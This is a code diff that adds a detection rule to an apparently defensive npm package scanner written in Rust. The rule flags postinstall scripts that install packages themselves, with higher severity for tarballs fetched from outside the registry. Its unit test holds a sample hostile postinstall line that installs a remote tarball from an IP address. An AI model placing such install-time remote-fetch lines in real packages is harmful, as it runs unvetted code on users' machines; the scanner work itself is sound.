@@ -18,7 +18,9 @@
 //! | PKG358 | npm-bin-shadows-command | medium |
 //! | PKG359 | npm-malformed-manifest | low |
 //!
-//! (`PKG301`–`PKG349` are left to the PyPI manifests.)
+//! (`PKG301`–`PKG349` are left to the PyPI manifests.) An install script
+//! line that installs a named package (`npm install x@https://…`) is also
+//! reported as JS212 `runtime-install`, as if package code ran it.
 
 use serde_json::Value;
 use sluice_archive::FileTree;
@@ -302,6 +304,35 @@ impl Pkg<'_> {
                 "runs host reconnaissance commands",
                 &facts.recon,
             );
+            // `"postinstall": "npm install x@https://…"`: JS212 runtime-install
+            // in the script line itself.
+            if installs && let Some(inst) = crate::javascript::js212_runtime_install::installer(cmd)
+            {
+                let remote = inst.remote.is_some();
+                let mut fi = self
+                    .finding(
+                        "JS212",
+                        "runtime-install",
+                        if remote {
+                            Severity::Critical
+                        } else {
+                            Severity::High
+                        },
+                        if remote {
+                            Confidence::High
+                        } else {
+                            Confidence::Medium
+                        },
+                        format!("the `{name}` script runs `{} install` itself", inst.tool),
+                        name,
+                    )
+                    .excerpt(cmd)
+                    .evidence(format!("installs: {}", inst.packages.join(" ")));
+                if let Some(r) = &inst.remote {
+                    fi = fi.evidence(format!("from outside the registry: {r}"));
+                }
+                m.findings.push(fi);
+            }
             // `node -e "<code>"`: judge the inline code with the JavaScript
             // rules, as a file run at install time.
             for code in inline_node_code(cmd) {
@@ -645,6 +676,41 @@ mod tests {
         );
         assert_eq!(script_targets("sh install.sh || true"), vec!["install.sh"]);
         assert_eq!(script_targets("./postinstall.js"), vec!["./postinstall.js"]);
+    }
+
+    #[test]
+    fn lifecycle_runtime_install() {
+        let tree = |cmd: &str| FileTree {
+            kind: sluice_archive::ArtifactKind::NpmTarball,
+            filename: "x.tgz".into(),
+            sha256: None,
+            size: 0,
+            files: vec![sluice_archive::FileEntry {
+                path: "package/package.json".into(),
+                data: format!(
+                    r#"{{"name":"x","version":"1.0.0","scripts":{{"postinstall":"{cmd}"}}}}"#
+                )
+                .into_bytes(),
+                mode: None,
+                truncated: false,
+            }],
+            anomalies: Vec::new(),
+        };
+        let js212 = |cmd: &str| {
+            read(&tree(cmd))
+                .unwrap()
+                .findings
+                .into_iter()
+                .find(|f| f.rule.as_str() == "JS212")
+                .map(|f| f.severity)
+        };
+        assert_eq!(
+            js212("npm install --no-save https://203.0.113.5/p.tgz"),
+            Some(Severity::Critical)
+        );
+        assert_eq!(js212("npm i left-pad-utils"), Some(Severity::High));
+        assert_eq!(js212("npm install && node-gyp rebuild"), None);
+        assert_eq!(js212("node setup.js"), None);
     }
 
     #[test]
